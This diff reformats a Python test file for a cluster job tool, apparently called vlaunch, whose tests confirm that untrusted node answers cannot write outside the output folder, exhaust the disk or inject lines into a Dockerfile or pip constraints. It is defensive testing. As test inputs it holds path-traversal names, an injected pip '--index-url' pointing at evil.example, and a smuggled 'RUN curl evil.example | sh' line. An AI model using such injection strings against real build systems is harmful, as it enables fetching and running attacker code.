@@ -1,4 +1,6 @@
-"""Nothing that a node says makes this machine write outside its place, through a link, or without bound."""
+"""Nothing that a node says makes this machine write outside its place, through a link, or without
+bound.
+"""
 
 from __future__ import annotations
 
@@ -32,18 +34,34 @@ DATA = b'{"row": 0}\n' * 100
 SIZE = len(DATA)
 SHA = hashlib.sha256(DATA).hexdigest()
 OUTSIDE = (
-    "../evil", "/etc/evil", "rows/../../evil", "rows/part-000001.jsonl/../../../evil", "rows\\part-000001.jsonl", "rows/",
-    "rows/part-000001.jsonl\n", "rows/part-000001.jsonl\0", "rows/part-１２３４５６.jsonl", "ledger/part-000001.json",
+    "../evil",
+    "/etc/evil",
+    "rows/../../evil",
+    "rows/part-000001.jsonl/../../../evil",
+    "rows\\part-000001.jsonl",
+    "rows/",
+    "rows/part-000001.jsonl\n",
+    "rows/part-000001.jsonl\0",
+    "rows/part-１２３４５６.jsonl",
+    "ledger/part-000001.json",
     ".vlaunch-batch.json",
-    "rows/part-000001.jsonl~", "errors/part-000001.parquet", "summary.json/x", "~/evil", "", ".", "..",
-)  # fmt: skip
+    "rows/part-000001.jsonl~",
+    "errors/part-000001.parquet",
+    "summary.json/x",
+    "~/evil",
+    "",
+    ".",
+    "..",
+)
 
 
 def file(path: Any = "rows/part-000001.jsonl", count: Any = SIZE, sha: Any = SHA) -> dict[str, Any]:
     return {"path": path, "bytes": count, "sha256": sha}
 
 
-def fetch(out: Path, files: Any, piece: Callable[[int, int], dict[str, Any]] | None = None) -> FakeTransport:
+def fetch(
+    out: Path, files: Any, piece: Callable[[int, int], dict[str, Any]] | None = None
+) -> FakeTransport:
     """Gather what a head announces; `piece` is what it sends of a file."""
 
     def honest(offset: int, count: int) -> dict[str, Any]:
@@ -52,7 +70,9 @@ def fetch(out: Path, files: Any, piece: Callable[[int, int], dict[str, Any]] | N
     def head(command: Command) -> Answer:
         if "outputs" in command.argv:
             return Answer(node="gpu01", code=0, out=json.dumps({"files": files}))
-        offset, count = (int(command.argv[command.argv.index(word) + 1]) for word in ("--offset", "--bytes"))
+        offset, count = (
+            int(command.argv[command.argv.index(word) + 1]) for word in ("--offset", "--bytes")
+        )
         return Answer(node="gpu01", code=0, out=json.dumps((piece or honest)(offset, count)))
 
     target = Target(path=out, shown="out", cluster="c", job="j", digest="d")
@@ -86,11 +106,18 @@ def test_sizes_that_no_file_has(tmp_path: Path, count: Any) -> None:
 
 
 def test_more_than_there_is_room_for(tmp_path: Path) -> None:
-    """What is announced must leave some room on this machine's disk; nothing of it is fetched first."""
+    """What is announced must leave some room on this machine's disk; nothing of it is fetched
+    first.
+    """
     free = shutil.disk_usage(tmp_path).free
     with pytest.raises(VlaunchError, match="has room for"):
         fetch(
-            tmp_path / "out", [file(), file("rows/part-000002.jsonl", free // 2 + 1), file("rows/part-000003.jsonl", free // 2)]
+            tmp_path / "out",
+            [
+                file(),
+                file("rows/part-000002.jsonl", free // 2 + 1),
+                file("rows/part-000003.jsonl", free // 2),
+            ],
         )
 
     assert everything(tmp_path) == {"out", "out/.vlaunch-batch.json"}
@@ -98,10 +125,17 @@ def test_more_than_there_is_room_for(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize(
     "said",
-    [{"data": base64.b64encode(b"x" * 2_000_000).decode(), "size": len(DATA)}, {"data": "", "size": len(DATA)}, {"size": 1},
-     {"data": "é", "size": len(DATA)}, {"data": base64.b64encode(DATA).decode(), "size": 10**400}, [], "x",
-     {"data": base64.b64encode(DATA[::-1]).decode(), "size": len(DATA)}],
-)  # fmt: skip
+    [
+        {"data": base64.b64encode(b"x" * 2_000_000).decode(), "size": len(DATA)},
+        {"data": "", "size": len(DATA)},
+        {"size": 1},
+        {"data": "é", "size": len(DATA)},
+        {"data": base64.b64encode(DATA).decode(), "size": 10**400},
+        [],
+        "x",
+        {"data": base64.b64encode(DATA[::-1]).decode(), "size": len(DATA)},
+    ],
+)
 def test_pieces_that_are_not_what_was_announced(tmp_path: Path, said: Any) -> None:
     """Longer, shorter, or something else: no file appears, and none stays half written."""
     with pytest.raises(NodeError):
@@ -117,7 +151,9 @@ def test_links_that_lie_there_already(tmp_path: Path) -> None:
     (out / "rows").mkdir(parents=True)
     for name in ("rows/part-000001.jsonl", "rows/.part-000001.jsonl~", ".vlaunch-batch.json~"):
         (out / name).symlink_to(mine)
-    (out / ".vlaunch-batch.json").write_text(json.dumps({"cluster": "c", "job": "j", "digest": "d"}))
+    (out / ".vlaunch-batch.json").write_text(
+        json.dumps({"cluster": "c", "job": "j", "digest": "d"})
+    )
     fetch(out, [file()])
 
     assert mine.read_text() == "mine"
@@ -145,10 +181,15 @@ def test_any_announcement(tmp_path: Path, chance: random.Random) -> None:
     folder = tmp_path / str(chance.random())
     folder.mkdir()
     with contextlib.suppress(VlaunchError):
-        fetch(folder / "out", mutate.value([file(), file("errors/part-000002.jsonl"), file("summary.json")], chance))
+        fetch(
+            folder / "out",
+            mutate.value([file(), file("errors/part-000002.jsonl"), file("summary.json")], chance),
+        )
     allowed = {"out", "out/.vlaunch-batch.json", "out/rows", "out/errors", "out/summary.json"}
     assert {
-        name for name in everything(folder) - allowed if not name.startswith(("out/rows/part-", "out/errors/part-"))
+        name
+        for name in everything(folder) - allowed
+        if not name.startswith(("out/rows/part-", "out/errors/part-"))
     } == set()
 
 
@@ -158,29 +199,52 @@ def said(**changed: Any) -> str:
 
 
 def test_distributions_are_no_paths(tmp_path: Path) -> None:
-    """Their names become files here: one that leads elsewhere, or into pip's options, is no name."""
+    """Their names become files here: one that leads elsewhere, or into pip's options, is no
+    name.
+    """
     there = {
-        "../../evil": "1.0", "/tmp/evil": "1.0", "a/b": "1.0", "x\n--index-url http://evil.example/": "1.0", "..": "1.0",
+        "../../evil": "1.0",
+        "/tmp/evil": "1.0",
+        "a/b": "1.0",
+        "x\n--index-url http://evil.example/": "1.0",
+        "..": "1.0",
         "-r": "1.0",
-        "ok": "1.0", "worse": "1.0\n--pre", "url": "1 @ http://evil.example/x.whl", "quoted": '1"; RUN evil', mutate.EVIL: "1",
-    }  # fmt: skip
+        "ok": "1.0",
+        "worse": "1.0\n--pre",
+        "url": "1 @ http://evil.example/x.whl",
+        "quoted": '1"; RUN evil',
+        mutate.EVIL: "1",
+    }
     found = image.parse_probe(said(distributions=there))
 
     assert dict(found.distributions) == {"ok": "1.0"}
     work = tmp_path / "work"
     work.mkdir()
     constraints = wheels._stand_ins(found, work)
-    assert everything(tmp_path) == {"work", "work/image", "work/image/ok-1.0-py3-none-any.whl", "work/constraints.txt"}
+    assert everything(tmp_path) == {
+        "work",
+        "work/image",
+        "work/image/ok-1.0-py3-none-any.whl",
+        "work/constraints.txt",
+    }
     assert len(constraints.read_text().splitlines()) == 1
 
 
 @pytest.mark.parametrize(
     "changed",
-    [{"env": {"VLLM_PLUGINS": 'x"\nRUN curl evil.example | sh\n#'}}, {"uid": "0\nRUN evil"}, {"uid": -1},
-     {"python": "3.12.1\nRUN x"},
-     {"machine": "x86_64\n"}, {"abiflags": "\nx"}, {"env": {"VLLM_PLUGINS": 1}}, {"pip": 1}, {"distributions": None},
-     {"python": "3" * 5000 + ".1.1"}],
-)  # fmt: skip
+    [
+        {"env": {"VLLM_PLUGINS": 'x"\nRUN curl evil.example | sh\n#'}},
+        {"uid": "0\nRUN evil"},
+        {"uid": -1},
+        {"python": "3.12.1\nRUN x"},
+        {"machine": "x86_64\n"},
+        {"abiflags": "\nx"},
+        {"env": {"VLLM_PLUGINS": 1}},
+        {"pip": 1},
+        {"distributions": None},
+        {"python": "3" * 5000 + ".1.1"},
+    ],
+)
 def test_an_image_writes_no_lines_of_the_dockerfile(changed: dict[str, Any]) -> None:
     """It is built on every node, also where that image was never seen."""
     with pytest.raises(UnreadableAnswer):
@@ -193,7 +257,13 @@ def test_an_image_with_a_ray_of_its_own_choice() -> None:
 
     assert found.ray is None
     plugin = ("plugin.whl", b"x")
-    made = derived.recipe(base="b:1", identity="i", image=dataclasses.replace(found, pip=True), wheels=None, plugin=plugin)
+    made = derived.recipe(
+        base="b:1",
+        identity="i",
+        image=dataclasses.replace(found, pip=True),
+        wheels=None,
+        plugin=plugin,
+    )
     assert made is not None
     assert "evil" not in made.dockerfile
 
@@ -205,7 +275,9 @@ def test_a_c_library_of_the_future() -> None:
 
 
 def test_answers_that_are_kept_are_few_and_small(tmp_path: Path) -> None:
-    """An image is asked once: who has another one each time does not fill the disk, nor who says more than asked."""
+    """An image is asked once: who has another one each time does not fill the disk, nor who says
+    more than asked.
+    """
     line = said()
     assert image.telling(f"noise\n{line}\n{'x' * 5_000_000}") == line
     assert image.telling("x" * 2_000_000 + "vlaunch-image") == ""
@@ -215,4 +287,6 @@ def test_answers_that_are_kept_are_few_and_small(tmp_path: Path) -> None:
         os.utime(path, (number, number))
     prepare._forget_old(tmp_path)
 
-    assert sorted(int(path.stem) for path in tmp_path.iterdir()) == list(range(20, prepare._KEPT + 20))
+    assert sorted(int(path.stem) for path in tmp_path.iterdir()) == list(
+        range(20, prepare._KEPT + 20)
+    )
